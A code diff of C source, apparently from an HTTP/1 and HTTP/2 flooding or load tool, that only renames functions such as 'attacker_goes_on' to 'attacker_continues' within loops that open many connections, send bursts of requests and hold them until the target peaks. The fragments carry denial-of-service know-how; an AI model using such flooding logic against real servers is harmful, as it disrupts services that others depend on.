@@ -17,7 +17,7 @@ enum {
     HEAD = 9,           /* of a frame of HTTP/2 */
 };
 
-bool attacker_goes_on(const attacker *a)
+bool attacker_continues(const attacker *a)
 {
     return !atomic_load_explicit(a->stop, memory_order_relaxed);
 }
@@ -36,7 +36,7 @@ bool attacker_open(attacker *a, raw *r)
 
 static bool put_calls(bytes *b, flood *f, const attack *of)
 {
-    if (target_speaks_h2(f->wire)) {
+    if (target_uses_h2(f->wire)) {
         for (size_t i = 0; i < CALLS_OVER_H2; i++)
             put_call(b, f->wire, f->next++, of->call);
         return false;
@@ -62,7 +62,7 @@ static void run_flood(attacker *a)
 {
     bytes b = {0};
 
-    while (attacker_goes_on(a)) {
+    while (attacker_continues(a)) {
         flood f = {.wire = a->wire};
         raw r;
         if (!attacker_open(a, &r))
@@ -92,7 +92,7 @@ holding attacker_take(attacker *a, size_t n, bool (*take)(attacker *a, raw *r, s
 
     if (!h.raws)
         abort();
-    for (size_t i = 0, refused = 0; i < n && refused < REFUSALS_MAX && attacker_goes_on(a); i++) {
+    for (size_t i = 0, refused = 0; i < n && refused < REFUSALS_MAX && attacker_continues(a); i++) {
         if (take(a, &h.raws[h.n], i)) {
             h.n++;
             refused = 0;
@@ -112,7 +112,7 @@ static bool await_answers_of(const attacker *a, raw *r, size_t n_calls)
     size_t n = 0;
     bool heard = false, quiet = false;
 
-    while ((n < n_calls || !heard) && !quiet && attacker_goes_on(a)) {
+    while ((n < n_calls || !heard) && !quiet && attacker_continues(a)) {
         uint8_t more[4096];
         ssize_t got = raw_receive(r, more, sizeof more, QUIET_MS);
         quiet = got <= 0;
@@ -143,7 +143,7 @@ static void run_hold(attacker *a)
         if (!await_answers_of(a, &h.raws[i], a->attack->answers))
             break;
     atomic_store(&a->at_peak, true);
-    while (attacker_goes_on(a))
+    while (attacker_continues(a))
         process_pause();
     for (size_t i = 0; i < h.n; i++) {
         h.raws[i].stop = &go_on;
